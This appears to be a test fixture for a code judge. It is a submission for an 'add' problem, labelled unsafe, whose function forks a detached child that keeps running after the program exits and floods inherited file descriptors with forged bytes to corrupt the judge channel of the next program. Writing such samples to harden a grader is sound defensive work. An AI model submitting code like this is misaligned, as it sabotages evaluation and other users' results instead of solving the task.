# problem: add
# verdict: wrong_answer | runtime_error | crashed
# why: A child keeps the channel and writes to it while the next program runs.
# unsafe: true
import os
import time


def add(a, b):
    try:
        if os.fork() == 0:
            os.setsid()
            end = time.monotonic() + 5
            while time.monotonic() < end:
                for fd in range(3, 64):
                    try:
                        os.write(fd, b"\x00\x00\x00\x01T" * 8)
                    except OSError:
                        pass
                time.sleep(0.01)
            os._exit(0)
    except OSError:
        pass
    return None
